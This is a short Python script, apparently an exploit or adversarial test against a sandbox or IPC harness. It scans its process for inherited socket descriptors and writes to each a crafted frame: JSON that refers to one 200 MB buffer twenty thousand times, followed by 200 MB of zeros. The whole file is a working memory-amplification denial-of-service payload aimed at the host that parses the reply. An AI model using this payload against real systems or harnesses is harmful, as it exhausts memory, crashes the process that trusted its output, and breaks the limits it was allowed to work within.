"""Means the same 200 MB twenty thousand times, in one small answer."""

import json
import os
import socket
import stat
import struct

SAYS = "cannot be read"

sockets = [n for n in range(3, 50) if os.path.exists(f"/proc/self/fd/{n}")]
sockets = [n for n in sockets if stat.S_ISSOCK(os.fstat(n).st_mode)]


def double(x):
    one = {"is": "bytes", "start": 0, "size": 200 << 20}
    text = json.dumps({"is": "dict", "items": [["value", [one] * 20_000]]}).encode()
    for number in sockets:
        line = socket.socket(fileno=number)
        line.setblocking(True)
        line.sendall(struct.pack("!II", len(text), 200 << 20) + text)
        line.sendall(bytes(200 << 20))
    return 0
